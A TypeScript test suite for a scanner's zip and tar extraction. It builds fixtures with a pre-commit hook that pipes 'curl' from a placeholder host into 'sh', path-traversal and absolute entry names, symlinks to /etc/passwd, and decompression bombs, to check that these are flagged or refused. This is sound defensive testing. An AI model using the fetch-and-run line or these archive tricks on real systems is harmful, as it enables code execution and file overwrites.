import assert from 'node:assert/strict';
import {
  createWriteStream,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { after, describe, it } from 'node:test';
import { create as createTar } from 'tar';
import yazl from 'yazl';
import { runAirlock } from '../../test/helpers/cli.ts';
import { tempDir } from '../../test/helpers/git-repo.ts';
import { InputError } from '../core/errors.ts';
import { scan } from '../index.ts';
import { extractArchive } from './archive.ts';

const tmp = tempDir('archive');
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});
let n = 0;
function fresh(): string {
  const d = join(tmp, `out-${n++}`);
  mkdirSync(d);
  return d;
}

interface ZipItem {
  name: string;
  body?: Buffer | string;
  mode?: number;
  dir?: boolean;
}

/** yazl refuses unsafe names, so tests write a same-length placeholder and patch the bytes. */
async function makeZip(items: ZipItem[], compress = true, renames: Record<string, string> = {}): Promise<string> {
  const file = join(tmp, `a-${n++}.zip`);
  const zip = new yazl.ZipFile();
  for (const it of items) {
    if (it.dir) zip.addEmptyDirectory(it.name);
    else zip.addBuffer(Buffer.from(it.body ?? ''), it.name, { compress, ...(it.mode !== undefined ? { mode: it.mode } : {}) });
  }
  await new Promise<void>(resolve => {
    zip.outputStream.pipe(createWriteStream(file)).on('close', () => {
      resolve();
    });
    zip.end();
  });
  if (Object.keys(renames).length > 0) {
    let buf = readFileSync(file);
    for (const [from, to] of Object.entries(renames)) {
      assert.equal(Buffer.byteLength(from), Buffer.byteLength(to));
      for (let at = buf.indexOf(from); at >= 0; at = buf.indexOf(from, at + 1))
        buf = Buffer.concat([buf.subarray(0, at), Buffer.from(to), buf.subarray(at + to.length)]);
    }
    writeFileSync(file, buf);
  }
  return file;
}

function present(p: string): boolean {
  try {
    lstatSync(p);
    return true;
  } catch {
    return false;
  }
}

/** A raw ustar archive, to write entries that tar tools refuse to create (`..`, absolute paths). */
function rawTar(entries: { name: string; type?: '0' | '2' | '5' | '1' | '3'; body?: string; link?: string }[]): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const body = Buffer.from(e.body ?? '');
    const h = Buffer.alloc(512);
    h.write(e.name, 0, 100, 'utf8');
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(body.length.toString(8).padStart(11, '0') + '\0', 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write(e.type ?? '0', 156);
    if (e.link) h.write(e.link, 157, 100, 'utf8');
    h.write('ustar\0', 257);
    h.write('00', 263);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
    blocks.push(h, body, Buffer.alloc((512 - (body.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}

describe('zip archives', () => {
  it('unpacks a normal project and scans its top folder', async () => {
    const zip = await makeZip([
      { name: 'shop-main/', dir: true },
      { name: 'shop-main/package.json', body: '{"name":"shop","private":true}' },
      { name: 'shop-main/.husky/pre-commit', body: 'curl -s https://h.example.invalid/x | sh\n' },
      { name: 'shop-main/vendor/tools.zip', body: 'PK' },
    ]);
    const report = await scan(zip, { quarantineDir: join(tmp, 'q') });
    assert.equal(report.target.kind, 'archive');
    assert.equal(report.target.files, 3);
    assert.ok(report.executionMap.some(s => s.location.file === '.husky/pre-commit'));
    assert.ok(report.notes?.some(n => n.includes('archives that were not unpacked: shop-main/vendor/tools.zip')));
    assert.deepEqual(readdirSync(join(tmp, 'q', 'airlock-quarantine')), []);
  });

  it('refuses `..` and absolute entries and keeps the rest', async () => {
    const zip = await makeZip(
      [
        { name: 'XX/XX/escape.txt', body: 'x' },
        { name: 'Xetc/cron.d/evil', body: 'x' },
        { name: 'C_/Windows/evil.bat', body: 'x' },
        { name: 'ok/XX/XX/evil2.txt', body: 'x' },
        { name: 'ok/file.txt', body: 'fine' },
      ],
      true,
      {
        'XX/XX/escape.txt': '../../escape.txt',
        'Xetc/cron.d/evil': '/etc/cron.d/evil',
        'C_/Windows/evil.bat': 'C:\\Windows\\evil.bat',
        'ok/XX/XX/evil2.txt': 'ok/..\\..\\evil2.txt',
      },
    );
    const out = fresh();
    const r = await extractArchive(zip, 'zip', out);
    assert.equal(readFileSync(join(out, 'ok', 'file.txt'), 'utf8'), 'fine');
    assert.equal(existsSync(join(tmp, 'escape.txt')), false);
    assert.equal(existsSync(join(tmp, 'evil2.txt')), false);
    const note = r.notes.join('\n');
    assert.match(note, /4 entries of the archive were not extracted/);
    assert.match(note, /absolute path/);
    assert.match(note, /climbs out/);
  });

  it('records links that point out instead of creating them, keeps those that stay inside', async () => {
    const zip = await makeZip([
      { name: 'p/etc', body: '/etc', mode: 0o120777 },
      { name: 'p/up', body: '../../..', mode: 0o120777 },
      { name: 'p/self', body: '.', mode: 0o120777 },
      { name: 'p/sneaky', body: 'self/../..', mode: 0o120777 },
      { name: 'p/docs-link', body: 'docs/readme.md', mode: 0o120777 },
      { name: 'p/docs/readme.md', body: 'hello' },
      { name: 'p/etc/passwd', body: 'through the link?' },
    ]);
    const out = fresh();
    const r = await extractArchive(zip, 'zip', out);
    const root = join(out, 'p');
    assert.ok(lstatSync(join(root, 'docs-link')).isSymbolicLink());
    assert.equal(present(join(root, 'up')), false);
    assert.equal(present(join(root, 'sneaky')), false);
    assert.ok(lstatSync(join(root, 'self')).isSymbolicLink());
    assert.ok(lstatSync(join(root, 'etc')).isDirectory());
    assert.equal(readFileSync(join(root, 'etc', 'passwd'), 'utf8'), 'through the link?');
    assert.match(r.notes.join('\n'), /link to \/etc points outside/);
    assert.match(r.notes.join('\n'), /resolves outside the folder through other links/);
  });

  it('refuses a decompression bomb', async () => {
    const zip = await makeZip([{ name: 'zeros.bin', body: Buffer.alloc(20 * 1024 * 1024) }]);
    await assert.rejects(
      extractArchive(zip, 'zip', fresh()),
      (e: unknown) => e instanceof InputError && /decompression bomb/.test(e.message),
    );
  });

  it('refuses too many entries and too many bytes, per the limits', async () => {
    const many = await makeZip(Array.from({ length: 30 }, (_, i) => ({ name: `f${i}.txt`, body: 'x' })));
    await assert.rejects(extractArchive(many, 'zip', fresh(), { maxEntries: 10 }), /more than 10 entries/);
    const big = await makeZip(
      [
        { name: 'a.txt', body: 'a'.repeat(5000) },
        { name: 'b.txt', body: 'b'.repeat(5000) },
      ],
      false,
    );
    await assert.rejects(extractArchive(big, 'zip', fresh(), { maxTotalBytes: 8000 }), /more than 7\.8 KiB once unpacked/);
    const r = await extractArchive(big, 'zip', fresh(), { maxFileBytes: 1000 });
    assert.match(r.notes.join('\n'), /larger than 1000 B; not extracted/);
  });

  it('refuses many small entries that add up to a bomb before writing any of them', async () => {
    // Each entry is under the per-entry ratio floor; only the whole archive gives the bomb away.
    const zeros = Buffer.alloc(900 * 1024);
    const zip = await makeZip(Array.from({ length: 60 }, (_, i) => ({ name: `z/${i}.bin`, body: zeros })));
    const out = fresh();
    await assert.rejects(
      extractArchive(zip, 'zip', out),
      (e: unknown) =>
        e instanceof InputError &&
        e.code === 'ARCHIVE_BOMB' &&
        /52\.7 MiB from [\d.]+ KiB\) unpacks to more than 200 times .*a decompression bomb/.test(e.message),
    );
    assert.deepEqual(readdirSync(out), []);
    const plain = await makeZip(Array.from({ length: 60 }, (_, i) => ({ name: `p/${i}.txt`, body: `line ${i}\n`.repeat(20) })));
    assert.equal((await extractArchive(plain, 'zip', fresh())).entries, 60);
  });

  it('checks the declared total and the entry count before writing', async () => {
    const big = await makeZip(
      Array.from({ length: 12 }, (_, i) => ({ name: `b${i}.txt`, body: String(i).repeat(5000) })),
      false,
    );
    const out = fresh();
    await assert.rejects(
      extractArchive(big, 'zip', out, { maxTotalBytes: 50_000 }),
      (e: unknown) => e instanceof InputError && e.code === 'ARCHIVE_TOO_LARGE' && /declare 68\.4 KiB/.test(e.message),
    );
    assert.deepEqual(readdirSync(out), []);
    const out2 = fresh();
    await assert.rejects(
      extractArchive(big, 'zip', out2, { maxEntries: 10 }),
      (e: unknown) => e instanceof InputError && e.code === 'ARCHIVE_TOO_MANY_FILES',
    );
    assert.deepEqual(readdirSync(out2), []);
  });

  it('exits 2 with one line for a zip of small bombs', async () => {
    const zeros = Buffer.alloc(900 * 1024);
    const zip = await makeZip(Array.from({ length: 60 }, (_, i) => ({ name: `z/${i}.bin`, body: zeros })));
    const r = await runAirlock(['scan', zip]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /^airlock scan: refused: a-\d+\.zip \(52\.7 MiB from [\d.]+ KiB\) .*a decompression bomb\)\n$/);
    assert.equal(r.stdout, '');
  });

  it('exits 2 with one line for a corrupt archive', async () => {
    const bad = join(tmp, 'bad.zip');
    writeFileSync(bad, 'this is not a zip');
    const r = await runAirlock(['scan', bad]);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /cannot read zip archive/);
  });
});

describe('tar archives', () => {
  it('unpacks a .tgz made by the tar package, with an inside link and an outside link', async () => {
    const src = join(tmp, 'tsrc');
    mkdirSync(join(src, 'app', '.vscode'), { recursive: true });
    writeFileSync(join(src, 'app', 'package.json'), '{"name":"app"}');
    writeFileSync(join(src, 'app', '.vscode', 'tasks.json'), '{}');
    symlinkSync('/etc/passwd', join(src, 'app', 'passwd'));
    symlinkSync('package.json', join(src, 'app', 'pkg'));
    const file = join(tmp, 'app.tgz');
    await createTar({ gzip: true, file, cwd: src, portable: true }, ['app']);
    const out = fresh();
    const r = await extractArchive(file, 'tgz', out);
    assert.equal(r.root, join(out, 'app'));
    assert.ok(lstatSync(join(out, 'app', 'pkg')).isSymbolicLink());
    assert.equal(present(join(out, 'app', 'passwd')), false);
    assert.match(r.notes.join('\n'), /passwd \(link to \/etc\/passwd points outside/);
  });

  it('refuses `..`, absolute paths and devices in a raw tar; copies inside hard links', async () => {
    const file = join(tmp, 'raw.tar');
    writeFileSync(
      file,
      rawTar([
        { name: '../evil.sh', body: 'x' },
        { name: '/tmp/evil.sh', body: 'x' },
        { name: 'a/ok.txt', body: 'ok' },
        { name: 'a/hard', type: '1', link: 'a/ok.txt' },
        { name: 'a/hard-out', type: '1', link: '../../etc/passwd' },
        { name: 'a/dev', type: '3' },
        { name: 'a/lnk', type: '2', link: '../../../../etc' },
      ]),
    );
    const out = fresh();
    const r = await extractArchive(file, 'tar', out);
    assert.equal(readFileSync(join(out, 'a', 'hard'), 'utf8'), 'ok');
    for (const p of ['a/hard-out', 'a/dev', 'a/lnk']) assert.equal(present(join(out, p)), false, p);
    assert.equal(existsSync(join(tmp, 'evil.sh')), false);
    const notes = r.notes.join('\n');
    assert.match(notes, /climbs out/);
    assert.match(notes, /CharacterDevice entries are not extracted/);
  });

  it('refuses a gzip bomb', async () => {
    const file = join(tmp, 'bomb.tar.gz');
    writeFileSync(file, gzipSync(rawTar([{ name: 'zeros', body: '\0'.repeat(30 * 1024 * 1024) }])));
    await assert.rejects(extractArchive(file, 'tgz', fresh()), /decompression bomb/);
  });
});
